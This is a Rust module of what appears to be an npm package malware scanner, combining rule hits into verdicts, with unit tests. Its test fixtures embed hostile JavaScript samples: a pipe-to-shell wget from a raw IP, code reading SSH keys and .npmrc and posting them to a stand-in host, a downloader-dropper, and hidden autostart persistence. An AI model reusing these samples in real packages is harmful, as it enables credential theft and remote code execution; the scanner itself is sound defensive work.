//! The verdict: `malicious` when the evidence makes an attack, `review` for anything a person
//! should look at, `ok` otherwise. Evidence makes an attack in three ways, checked in order:
//!
//! 1. a single finding a rule raised to critical on its own context, or a damning behaviour
//!    (credential theft, worm spreading, `curl | sh`, ...) in code run at install time;
//! 2. a kill chain ([`chain`]): findings grouped into behaviour classes (steal, exfiltrate,
//!    execute, persist, hide, propagate, damage, money, target) and weighed by severity, with
//!    bundles, minified and documentation files counting less; two different findings of two
//!    classes that make an attack together (steal + exfiltrate, hide + execute, ...) in one file
//!    or in the code run at install time;
//! 3. signatures that need facts the classes do not carry: what a file writes, whether it
//!    handles wallet seeds, which system command a bin shadows, cross-file combinations.
//!
//! Evidence of one class alone never makes `malicious`.

mod chain;

use crate::model::{Severity, Verdict};
use crate::package::Package;
use crate::rules::Hit;
use std::collections::{BTreeSet, HashMap};

/// What obfuscated code must not also do. Not `dynamic-require`: string-array obfuscation turns
/// every `require('x')` into `require(_0x…('0x1'))`, so it comes with the obfuscation itself;
/// `obfuscated-code` judges what the hidden names are (and is critical when it cannot read them).
const OBF_PARTNERS: &[&str] = &[
    "network-access",
    "suspicious-endpoint",
    "child-process",
    "wallet-hook",
    "eval-dynamic",
    "env-harvest",
    "sensitive-file-read",
    "token-theft",
    "clipboard-hijack",
    "address-swap",
    "crypto-address-list",
    "silent-process",
    "destructive-fs",
];
/// Worm and exfiltration behaviour that is damning when it runs at install time.
const INSTALL_DAMNING: &[&str] = &[
    "credential-file-send",
    "shell-download-exec",
    "credential-scanner",
    "npm-publish",
    "github-workflow-write",
    "github-repo-abuse",
    "token-theft",
    "env-harvest",
    "sensitive-file-read",
    "destructive-fs",
    "suspicious-endpoint",
    "clipboard-hijack",
    "wallet-hook",
];

/// Whether a file writes files (to drop what it downloaded).
fn writes_files(pkg: &Package, path: &str) -> bool {
    pkg.files
        .iter()
        .find(|f| f.path == path)
        .and_then(|f| f.js.as_ref())
        .is_some_and(|js| {
            js.calls
                .iter()
                .any(|c| crate::rules::is_file_write(&c.path) || c.path.starts_with("fs.chmod"))
        })
}

/// Whether a file handles wallet secrets (seed phrases, private keys).
fn handles_wallet_secrets(pkg: &Package, path: &str) -> bool {
    pkg.files.iter().find(|f| f.path == path).is_some_and(|f| {
        crate::regex!(r"\b(mnemonic|mnemonicNew|seedPhrase|privateKey|secretKey)\b")
            .is_match(&f.text)
    })
}

pub fn judge(pkg: &Package, hits: &[Hit]) -> (Verdict, Vec<String>) {
    let mut reasons: BTreeSet<String> = BTreeSet::new();
    // Rules per file, with the best severity.
    let mut by_file: HashMap<&str, HashMap<&str, Severity>> = HashMap::new();
    for h in hits {
        let e = by_file
            .entry(h.file.as_str())
            .or_default()
            .entry(h.rule.id)
            .or_insert(h.severity);
        *e = (*e).max(h.severity);
    }
    let in_pkg = |id: &str| {
        hits.iter()
            .any(|h| h.rule.id == id && h.severity >= Severity::Medium)
    };
    let any_of = |ids: &[&str]| {
        hits.iter()
            .any(|h| ids.contains(&h.rule.id) && h.severity >= Severity::Medium)
    };

    for h in hits {
        if h.severity == Severity::Critical {
            reasons.insert(format!(
                "{} ({}:{}): {}",
                h.rule.id, h.file, h.line, h.message
            ));
        }
    }
    for h in hits {
        if h.install && INSTALL_DAMNING.contains(&h.rule.id) && h.severity >= Severity::High {
            reasons.insert(format!(
                "code run at install time: {} ({}:{})",
                h.rule.id, h.file, h.line
            ));
        }
    }
    for (file, rules) in &by_file {
        let has = |id: &str| rules.get(id).is_some_and(|s| *s >= Severity::Medium);
        if rules
            .get("obfuscated-code")
            .is_some_and(|s| *s >= Severity::High)
        {
            let partners: Vec<&str> = OBF_PARTNERS
                .iter()
                .copied()
                .filter(|p| match *p {
                    // A protected license check calls its vendor: plain network use is a partner
                    // only when the network rule itself found it worth a look.
                    "network-access" => has(p),
                    _ => rules.contains_key(p),
                })
                .collect();
            if !partners.is_empty() {
                reasons.insert(format!(
                    "{file}: obfuscated code that also uses {}",
                    partners.join(", ")
                ));
            }
        }
        if has("hidden-code-in-non-js") && (has("eval-dynamic") || has("encoded-payload")) {
            reasons.insert(format!("{file}: runs code hidden in a non-code file"));
        }
    }
    reasons.extend(chain::find(pkg, hits));
    // A dropper: content fetched over the network written to a file that is then loaded.
    for h in hits {
        if h.rule.id == "write-then-load" && h.message.starts_with("writes downloaded") {
            reasons.insert(format!(
                "{}: writes downloaded code to a file and runs it ({}:{})",
                h.file, h.file, h.line
            ));
        }
    }
    let install_silent = hits
        .iter()
        .any(|h| h.install && h.rule.id == "silent-process" && h.severity >= Severity::High);
    let install_spawn = hits
        .iter()
        .any(|h| h.install && h.rule.id == "child-process" && h.severity >= Severity::High);
    for (file, rules) in &by_file {
        let has = |id: &str| rules.get(id).is_some_and(|s| *s >= Severity::Medium);
        let high = |id: &str| rules.get(id).is_some_and(|s| *s >= Severity::High);
        // Download a program and start it: network, a file write and a process start in one
        // file, either hidden (detached, no stdio) there or launched by a hidden install step.
        if rules.contains_key("network-access")
            && has("child-process")
            && (has("silent-process") || install_silent)
            && writes_files(pkg, file)
        {
            reasons.insert(format!(
                "{file}: downloads a program and starts it hidden from the user"
            ));
        }
        if high("hidden-code-in-non-js")
            && (has("child-process")
                || high("suspicious-endpoint")
                || file.ends_with(crate::package::DECRYPTED)
                    && (rules.contains_key("network-access") || has("eval-dynamic")))
        {
            reasons.insert(format!(
                "{file}: code hidden from view runs commands or talks to a suspicious endpoint"
            ));
        }
        if high("suspicious-endpoint") && handles_wallet_secrets(pkg, file) {
            reasons.insert(format!(
                "{file}: handles wallet seeds or keys and talks to a collector, webhook or raw IP"
            ));
        }
        // Wallet keys and mnemonics gathered from config and key-named environment variables
        // in a file that talks to the network (Hardhat-plugin key stealers).
        if high("env-harvest")
            && rules.contains_key("network-access")
            && handles_wallet_secrets(pkg, file)
        {
            reasons.insert(format!(
                "{file}: collects wallet keys and secret environment variables beside network code"
            ));
        }
        if high("native-binary") && install_spawn && install_silent {
            reasons.insert(format!(
                "{file}: a shipped executable started hidden by an install script"
            ));
        }
    }
    for (cmd, bin) in crate::rules::exec::bin_shadowing::shadowing_bins(pkg) {
        if let Some(rules) = by_file.get(bin.as_str()) {
            let stolen: Vec<&str> = ["sensitive-file-read", "token-theft", "env-harvest"]
                .into_iter()
                .filter(|r| rules.get(r).is_some_and(|s| *s >= Severity::Medium))
                .collect();
            if !stolen.is_empty() {
                reasons.insert(format!(
                    "bin `{cmd}` shadows the system command and its code ({bin}) {}",
                    stolen.join(", ")
                ));
            }
        }
    }
    for (file, rules) in &by_file {
        let high = |id: &str| rules.get(id).is_some_and(|s| *s >= Severity::High);
        if high("eval-dynamic") && rules.contains_key("network-access") {
            reasons.insert(format!(
                "{file}: evaluates code it did not ship, in a file that uses the network"
            ));
        }
    }
    let high_in_pkg = |id: &str| {
        hits.iter()
            .any(|h| h.rule.id == id && h.severity >= Severity::High)
    };
    if high_in_pkg("hidden-code-in-non-js") && any_of(&["eval-dynamic", "encoded-payload"]) {
        reasons.insert("runs code hidden in a file that is not code".into());
    }
    if high_in_pkg("encoded-payload") && any_of(&["eval-dynamic", "dynamic-require"])
        || high_in_pkg("encoded-payload") && hits.iter().any(|h| h.rule.id == "dynamic-require")
    {
        reasons
            .insert("hides code or API names in encoded strings and loads code dynamically".into());
    }
    if in_pkg("wallet-hook") && any_of(&["address-swap", "crypto-address-list"]) {
        reasons.insert("hooks wallet providers and carries replacement addresses".into());
    }
    if in_pkg("destructive-fs") && in_pkg("geo-or-locale-targeting") {
        reasons.insert("destroys files depending on the user's country or locale".into());
    }
    if hits.iter().any(|h| h.rule.id == "user-folder-drop") && in_pkg("geo-or-locale-targeting") {
        reasons.insert(
            "drops files in the user's personal folders depending on country or locale".into(),
        );
    }
    if in_pkg("clipboard-hijack") && any_of(&["address-swap", "crypto-address-list"]) {
        reasons.insert("rewrites cryptocurrency addresses in the clipboard".into());
    }
    // The import-time context, weighed like the install-time one for reads of secrets: code
    // that runs as soon as the package is imported reads them and sends from load-time code.
    const STEAL: &[&str] = &[
        "env-harvest",
        "token-theft",
        "sensitive-file-read",
        "credential-scanner",
        "credential-file-send",
        "secret-flow",
    ];
    for h in hits {
        if h.load
            && STEAL.contains(&h.rule.id)
            && h.severity >= Severity::High
            && crate::rules::sends_on_load(pkg, &h.file)
        {
            reasons.insert(format!(
                "code run when the package is imported: {} ({}:{}) beside a send",
                h.rule.id, h.file, h.line
            ));
        }
    }
    if !reasons.is_empty() {
        return (Verdict::Malicious, reasons.into_iter().collect());
    }
    let worst = hits.iter().map(|h| h.severity).max();
    match worst {
        Some(s) if s >= Severity::High => {
            let mut r: Vec<String> = hits
                .iter()
                .filter(|h| h.severity >= Severity::High)
                .map(|h| format!("{} ({}:{})", h.rule.id, h.file, h.line))
                .collect();
            r.dedup();
            r.truncate(10);
            (Verdict::Review, r)
        }
        Some(Severity::Medium)
            if hits
                .iter()
                .any(|h| h.install && h.severity >= Severity::Medium) =>
        {
            (
                Verdict::Review,
                vec!["install-time behaviour worth a look".into()],
            )
        }
        _ => (Verdict::Ok, Vec::new()),
    }
}

#[cfg(test)]
mod tests {
    use crate::model::{ScanOptions, Verdict};

    fn verdict(path: &str, src: &str) -> Verdict {
        let files = vec![
            (
                "package.json".to_string(),
                br#"{"name":"a","version":"1.0.0","main":"index.js"}"#.to_vec(),
            ),
            (path.to_string(), src.as_bytes().to_vec()),
        ];
        crate::scan_files(files, &ScanOptions::default()).verdict
    }

    fn judged(path: &str, src: &str) -> (Verdict, Vec<String>) {
        let files = vec![
            (
                "package.json".to_string(),
                br#"{"name":"a","version":"1.0.0","main":"index.js"}"#.to_vec(),
            ),
            (path.to_string(), src.as_bytes().to_vec()),
        ];
        let r = crate::scan_files(files, &ScanOptions::default());
        (r.verdict, r.reasons)
    }

    /// An autostart entry written for a program that is then started detached with no output:
    /// persist + hide in one file.
    const AUTOSTART_HIDDEN: &str = "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst { spawn } = require('child_process');\nfs.writeFileSync(path.join(os.homedir(), '.config', 'autostart', 'sync.desktop'), '[Desktop Entry]\\nNoDisplay=true\\nExec=' + process.execPath + ' ' + agent);\nspawn(process.execPath, [agent], { detached: true, stdio: 'ignore' }).unref();\n";

    #[test]
    fn autostart_entry_with_a_hidden_process_is_a_persist_hide_chain() {
        let (v, reasons) = judged("lib/sync.js", AUTOSTART_HIDDEN);
        assert_eq!(v, Verdict::Malicious, "{reasons:?}");
        assert!(
            reasons
                .iter()
                .any(|r| r.contains("to stay on the machine") && r.contains("hides what it does")),
            "{reasons:?}"
        );
    }

    #[test]
    fn autostart_entry_written_in_plain_sight_is_not_malicious() {
        // an app's "start at login" setting: persistence, nothing hidden
        let src = "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nexports.enable = () => fs.writeFileSync(path.join(os.homedir(), '.config', 'autostart', 'app.desktop'), '[Desktop Entry]\\nExec=' + process.execPath);\n";
        let (v, reasons) = judged("lib/login-item.js", src);
        assert_ne!(v, Verdict::Malicious, "{reasons:?}");
    }

    /// Code built from character codes and evaluated: execute + hide in one file.
    const CHARCODE_EVAL: &str = "const k = [99,111,110,115,111,108,101,46,108,111,103,40,49,41];\nconst src = String.fromCharCode.apply(null, k.map((c) => c ^ 0));\nmodule.exports = function start() { return eval(src); };\n";

    #[test]
    fn evaluating_code_built_from_char_codes_is_an_execute_hide_chain() {
        let (v, reasons) = judged("lib/affinity.js", CHARCODE_EVAL);
        eprintln!("{reasons:?}");
        assert_eq!(v, Verdict::Malicious, "{reasons:?}");
    }

    #[test]
    fn the_same_in_a_large_bundle_is_not_a_chain() {
        // a bundle of many modules: each link counts one step less
        let filler = "function m(a){return a+1}\n".repeat(4000);
        let src = format!("{filler}{CHARCODE_EVAL}");
        let (v, reasons) = judged("dist/bundle.js", &src);
        assert_ne!(v, Verdict::Malicious, "{reasons:?}");
    }

    fn judged_install(files: &[(&str, &str)]) -> (Verdict, Vec<String>) {
        let mut all = vec![(
            "package.json".to_string(),
            br#"{"name":"a","version":"1.0.0","main":"index.js","scripts":{"postinstall":"node lib/warm.js"}}"#.to_vec(),
        )];
        all.extend(
            files
                .iter()
                .map(|(p, s)| (p.to_string(), s.as_bytes().to_vec())),
        );
        let r = crate::scan_files(all, &ScanOptions::default());
        (r.verdict, r.reasons)
    }

    #[test]
    fn install_step_that_hides_a_process_and_phones_home_from_another_file_is_a_chain() {
        // the links sit in two files, both run at install time
        let warm = "const { spawn } = require('child_process');\nrequire('./worker');\nspawn(process.execPath, [require.resolve('./worker')], { detached: true, stdio: 'ignore' }).unref();\n";
        let worker = "const https = require('https');\nhttps.get('https://updates.example/poll', (r) => r.resume());\n";
        let (v, reasons) = judged_install(&[("lib/warm.js", warm), ("lib/worker.js", worker)]);
        assert_eq!(v, Verdict::Malicious, "{reasons:?}");
        assert!(
            reasons
                .iter()
                .any(|r| r.starts_with("code run at install time:")),
            "{reasons:?}"
        );
    }

    #[test]
    fn install_step_that_downloads_a_binary_in_plain_sight_is_not_malicious() {
        // the prebuilt-binary pattern: network and a visible process, nothing hidden
        let warm = "const https = require('https');\nconst { execFileSync } = require('child_process');\nhttps.get('https://downloads.example/tool.tgz', (r) => r.resume());\nexecFileSync('tar', ['xzf', 'tool.tgz'], { stdio: 'inherit' });\n";
        let (v, reasons) = judged_install(&[("lib/warm.js", warm)]);
        assert_ne!(v, Verdict::Malicious, "{reasons:?}");
    }

    #[test]
    fn pipe_to_shell_from_a_raw_ip_is_malicious() {
        let src = "const cp = process.getBuiltinModule('child_process');\ncp.execFile('/bin/sh', ['-c', 'wget -qO- http://192.0.2.200/l | sh'], () => {});";
        assert_eq!(verdict("index.js", src), Verdict::Malicious);
    }

    #[test]
    fn install_hint_from_a_named_host_is_not_malicious() {
        let src = "const cp = require('child_process');\nif (!has('rustup')) console.log('run: curl -sSf https://sh.rustup.example | sh');\ncp.execFileSync('cargo', ['build']);";
        assert_ne!(verdict("index.js", src), Verdict::Malicious);
    }

    #[test]
    fn downloaded_code_written_and_required_is_malicious() {
        let src = "const https = require('https');\nconst fs = require('fs');\nconst p = require('path').join(require('os').tmpdir(), 'c.js');\nhttps.get(u, (r) => { let s = ''; r.on('data', (d) => (s += d)); r.on('end', () => { fs.writeFileSync(p, s); require(p); }); });";
        assert_eq!(verdict("lib/update.js", src), Verdict::Malicious);
    }

    #[test]
    fn credentials_read_and_sent_when_the_package_is_imported_are_malicious() {
        let src = "const fs = require('fs');\nconst os = require('os');\nconst k = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');\nconst n = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\nrequire('https').request({ host: 'c.example.net', method: 'POST' }).end(JSON.stringify({ k, n }));";
        assert_eq!(verdict("index.js", src), Verdict::Malicious);
    }

    #[test]
    fn credentials_read_in_an_exported_function_of_a_lib_file_are_not_import_time() {
        let src = "const fs = require('fs');\nconst os = require('os');\nmodule.exports = function keys() { return fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8') };\nfunction ping() { return require('https').get('https://status.example.com') }";
        assert_ne!(verdict("lib/other.js", src), Verdict::Malicious);
    }

    #[test]
    fn downloaded_data_written_and_another_file_required_is_not_malicious() {
        let src = "const https = require('https');\nconst fs = require('fs');\nhttps.get(u, (r) => { let s = ''; r.on('data', (d) => (s += d)); r.on('end', () => { fs.writeFileSync(cacheFile, s); require(configFile); }); });";
        assert_ne!(verdict("lib/update.js", src), Verdict::Malicious);
    }
}
